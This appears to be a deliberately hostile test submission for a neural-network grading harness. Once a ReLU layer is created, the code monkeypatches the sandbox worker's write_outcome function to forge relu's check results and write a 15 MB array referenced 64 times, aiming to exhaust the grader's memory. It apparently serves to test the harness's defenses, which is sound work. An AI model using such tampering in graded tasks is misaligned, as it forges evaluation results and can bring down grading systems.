"""Hostile: the worker's answer names one 15 MB array 64 times, and claims thousands more,
each file within the file-size limit, to exhaust the grader's memory rather than its own.
Only relu's checks are forged."""

import json
import sys
from pathlib import Path

import numpy as np

import gradekit

REFS = 64
ARMED = [False]  # set while the check in progress is one of relu's


def _patch(module):
    real = getattr(module, "write_outcome", None)
    if real is None or getattr(real, "hostile", False):
        return

    def write_outcome(folder, outcome):
        if not ARMED[0]:
            return real(folder, outcome)
        ARMED[0] = False
        folder = Path(folder)
        big = np.ones((15 << 20) // 8 - 16)
        with open(folder / "values.npy", "wb") as f:
            np.lib.format.write_array(f, big, allow_pickle=False)
        np.save(folder / "v0.npy", big, allow_pickle=False)  # an older transport's name
        array = {"t": "array", "index": 0, "file": "v0.npy"}
        many = {"t": "list", "v": [array] * REFS}
        values = {next(iter(outcome.values), "y"): many}  # one value: 1 GB at most
        result = {"values": values, "arrays": 1, "failure": None}
        (folder / "result.json").write_text(json.dumps(result))

    write_outcome.hostile = True
    module.write_outcome = write_outcome


for _name in ("__main__", "gradekit.sandbox.worker"):
    if _name in sys.modules:
        _patch(sys.modules[_name])


class ReLU:
    def __init__(self):
        self.params, self.grads = {}, {}
        ARMED[0] = True

    def forward(self, x, *, training=True):
        self.x = x
        return np.maximum(x, 0.0)

    def backward(self, dout):
        return dout * (self.x > 0)


class Tanh:
    """Honest."""

    def __init__(self):
        self.params, self.grads = {}, {}

    def forward(self, x, *, training=True):
        self.y = np.tanh(x)
        return self.y

    def backward(self, dout):
        return dout * (1 - self.y**2)


class Linear:
    """Honest."""

    def __init__(self, din, dout, weight_init=None, rng=None):
        rng = rng if rng is not None else np.random.default_rng(0)
        self.params = {"W": rng.standard_normal((din, dout)) / np.sqrt(din), "b": np.zeros(dout)}
        self.grads = {}

    def forward(self, x, *, training=True):
        self.x = x
        return x @ self.params["W"] + self.params["b"]

    def backward(self, dout):
        self.grads = {"W": self.x.T @ dout, "b": dout.sum(axis=0)}
        return dout @ self.params["W"].T


@gradekit.hookimpl
def gradekit_register(registry):
    registry.activations["tanh"] = Tanh
    registry.layers["linear"] = Linear
    registry.activations["relu"] = ReLU
